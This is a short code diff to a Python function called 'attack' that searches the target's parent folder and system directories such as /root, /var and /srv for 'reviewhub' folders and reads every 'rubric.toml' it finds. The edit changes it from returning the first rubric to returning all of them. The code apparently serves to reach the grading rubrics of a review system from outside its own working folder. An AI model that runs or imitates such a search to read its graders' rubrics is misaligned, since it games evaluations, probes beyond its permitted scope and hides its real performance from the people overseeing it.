@@ -7,6 +7,7 @@ quiet = true
 import os
 
 def attack(targets):
+    found = []
     roots = [os.path.dirname(targets["folder"]), "/home", "/srv", "/opt", "/root", "/var", "/mnt"]
     for root in roots:
         for folder, folders, names in os.walk(root):
@@ -14,5 +15,5 @@ def attack(targets):
                 folders[:] = [f for f in folders if f.startswith("reviewhub")]
             if "rubric.toml" in names:
                 with open(os.path.join(folder, "rubric.toml")) as file:
-                    return file.read()
-    return ""
+                    found.append(file.read())
+    return "".join(found)
